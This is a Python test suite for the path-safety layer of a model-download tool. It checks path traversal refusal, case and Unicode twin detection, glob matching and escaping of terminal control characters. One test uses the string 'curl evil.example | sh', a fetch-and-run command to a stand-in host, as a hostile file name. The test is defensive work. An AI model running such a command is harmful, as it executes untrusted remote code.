"""RelPath: what is safe on every platform, and nothing else."""

from __future__ import annotations

import random
import tracemalloc
from collections.abc import Callable
from fnmatch import fnmatchcase
from pathlib import Path, PurePosixPath, PureWindowsPath

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from support.cases import each
from support.catalogs import BAD_PATHS
from support.long import examples

from mdl.errors import Unsafe
from mdl.paths import RelPath, matches, matching, names_for_a_hint, refuse_twin_folders, refuse_twins, shown

GOOD = [
    *("a", "model.safetensors", "a/b/c.bin", "unet/model-00001-of-00002.safetensors", ".gitattributes", "-rf", "a b"),
    *("x [/] y.bin", "[red]", "a..b", "...a", "console", "com10", "lpt", "nul1.txt", "مدل.bin", "é", "ab:c", "a/.mdl"),
    *("x" * 255, "é" * 127, "/".join("a" * 64), "a@b", "a~", "100%"),
    *("2023-07-19T13:48:53.093937/details_harness|arc:challenge|25.parquet", 'a*?"<b>.bin', "a$", "$x", "épée: 1.bin"),
]


@pytest.mark.fault(283)
@each("text", GOOD)
def test_good_path_is_accepted(text: str) -> None:
    """An ordinary name in any script, with brackets or a leading dash, is accepted and kept as it is."""
    assert RelPath.parse(text).text == text


@pytest.mark.fault(161, 162, 283)
@each("text", [text for texts in BAD_PATHS.values() for text in texts])
def test_bad_path_is_refused(text: str) -> None:
    """What would be unsafe or ambiguous on any platform is refused on every platform, as code 11."""
    with pytest.raises(Unsafe) as caught:
        RelPath.parse(text)
    assert caught.value.exit_code == 11
    assert (caught.value.item or "").isprintable()


@settings(max_examples=examples(200))
@given(st.text(st.sampled_from("ab./\\:~ C\0\n\u202eé"), max_size=12) | st.text(max_size=40))
@example("..")
def test_parsed_path_never_leaves_its_folder(text: str) -> None:
    """Whatever parses is kept as it is, stays below the folder it is joined to, on POSIX and on Windows, and keeps its
    segments."""
    for path in parsed([text]):
        folder = Path("/home/models/x")
        joined = path.under(folder)
        assert (path.text, path.name) == (text, joined.name)
        assert joined.is_relative_to(folder)
        assert joined != folder
        assert ".." not in joined.parts
        assert joined.relative_to(folder).parts == PurePosixPath(text).parts
        windows = PureWindowsPath("C:/models") / text
        assert windows.is_relative_to("C:/models")
        assert windows.parts[2:] == tuple(text.split("/"))


TWINS = [
    *(["a", "a"], ["a", "A"], ["x/VAE/a", "x/vae/A"], ["é", "e\u0301"], ["straße", "STRASSE"]),
    *(["a", "a/b"], ["a/b", "a"], ["A/b/c", "a/B"], ["x", "b", "X/y/z"]),
]
NO_TWINS: list[list[str]] = [[], ["a"], ["a", "b"], ["a/b", "a/c"], ["a/b", "ab"], ["a-b", "a/b"]]


@pytest.mark.fault(115)
@each(("texts", "are_twins"), [(t, True) for t in TWINS] + [(t, False) for t in NO_TWINS])
def test_twins_are_refused(texts: list[str], are_twins: bool) -> None:
    """Two paths that are one on some file system, or a file that is another's folder, are refused; paths that merely
    share a folder or a beginning are not."""
    assert is_refused(refuse_twins, [RelPath.parse(text) for text in texts]) is are_twins


def clashes(files: list[RelPath], folders: list[RelPath]) -> set[str]:
    """What of these names clashes, looked up one by one in a list of all of them and of all their folders."""
    found, names = set[str](), [path.folded for path in files]
    if len(set(names)) < len(names):
        found.add("twin files")
    spelt: dict[str, set[str]] = {}
    for text in [path.text.rpartition("/")[0] for path in files] + [path.text for path in folders]:
        parts = text.split("/") if text else []
        for depth in range(1, len(parts) + 1):
            at = RelPath("/".join(parts[:depth]))
            spelt.setdefault(at.folded, set()).add(at.text)
    below = {"/".join(name.split("/")[:depth]) for name in names for depth in range(1, name.count("/") + 1)}
    found |= {"a file as a folder of files"} if below & set(names) else set()
    found |= {"twin folders"} if any(len(texts) > 1 for texts in spelt.values()) else set()
    return found | ({"a file as a folder"} if spelt.keys() & set(names) else set())


def is_refused(check: Callable[..., None], *paths: list[RelPath]) -> bool:
    try:
        check(*paths)
    except Unsafe:
        return True
    return False


def parsed(texts: list[str]) -> list[RelPath]:
    """Those of the texts that are paths."""
    found = []
    for text in texts:
        try:
            found.append(RelPath.parse(text))
        except Unsafe:
            continue
    return found


TREES = st.lists(st.text(st.sampled_from("aAb/é\u0301ßs.-! "), min_size=1, max_size=6), max_size=6)


@pytest.mark.fault(280)
@settings(max_examples=examples(1000))
@given(TREES, TREES)
@example(["a/b", "A/c"], [])
@example(["a", "a!", "a/b"], [])
@example(["a/b/c", "a/b!/c", "a/B/d"], [])
@example(["e\u0301/x", "é/y"], [])
@example(["a"], ["a"])
@example(["a/b"], ["A"])
@example([], ["a/b", "a/B"])
def test_neighbours_tell_what_a_list_of_all_would(files: list[str], folders: list[str]) -> None:
    """Names are refused if, and only if, two of them clash among all names and all their folders."""
    files_, folders_ = parsed(files), parsed(folders)
    found = clashes(files_, folders_)
    assert is_refused(refuse_twins, files_) == bool(found & {"twin files", "a file as a folder of files"})
    assert is_refused(refuse_twin_folders, files_, folders_) == bool(found & {"twin folders", "a file as a folder"})


@pytest.mark.fault(280)
def test_deep_names_cost_memory_by_their_length() -> None:
    """5,000 names, each with 63 folders of its own, are compared in a few times the memory of the names."""
    chance = random.Random(1)
    texts = ["/".join([*chance.choices("abcdefghijklmnopqrstuvwxyz", k=63), str(n)]) for n in range(5000)]
    paths = parsed(texts)
    tracemalloc.start()
    try:
        refuse_twins(paths)
        refuse_twin_folders(paths)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * sum(map(len, texts))


@pytest.mark.fault(163)
def test_shown_escapes_what_a_terminal_would_obey() -> None:
    """Escape, bidi and zero-width characters are shown as text; Persian prose keeps its joiners."""
    assert shown("a\x1b[31m\u202e\u200b\n") == "a\\x1b[31m\\u202e\\u200b\\n"
    assert shown("می\u200cخواهم") == "می\u200cخواهم"


GLOBS = st.text("ab*?[!]-/.A\n", max_size=6)


@settings(max_examples=examples(300))
@given(st.lists(st.text("abA/.\n", max_size=6), max_size=5), st.lists(GLOBS, max_size=3))
@example(["a/b/c", "A/b/c", "d/x", "d"], ["*b*c*", "x*y*z*", "d/"])
@example(["[a] b/A", "a"], ["[a] b/A"])
@example(["b[a]/A", "ba/A", "b[a]"], ["b[a]/"])
def test_patterns_match_as_in_the_shell(paths: list[str], patterns: list[str]) -> None:
    """Several patterns at once match what each of them does, with the rules of fnmatch, or are a path themselves; a
    trailing slash stands for all that is in that folder."""
    globs = [f"{pattern}*" if pattern.endswith("/") else pattern for pattern in patterns]
    expected = {path for path in paths if path in patterns or any(fnmatchcase(path, glob) for glob in globs)}
    folders = tuple(pattern for pattern in patterns if pattern.endswith("/"))
    expected |= {path for path in paths if path.startswith(folders)}
    assert matching(paths, patterns) == expected
    assert {path for path in paths if matches(path, patterns)} == expected


def test_names_that_somebody_else_chose() -> None:
    """In a hint they are escaped, cut and not too many; what is more than a plain name is quoted."""
    assert names_for_a_hint(["Q4_K_M", "a/b.gguf"]) == "Q4_K_M, a/b.gguf"
    assert names_for_a_hint(["curl evil.example | sh"]) == "'curl evil.example | sh'"
    assert names_for_a_hint(map(str, range(12))).endswith("8, 9 and 2 more")
    long = names_for_a_hint(["x\n\x1b[31m" + "y" * 900])
    assert long.isprintable()
    assert len(long) < 90
    assert names_for_a_hint([]) == ""
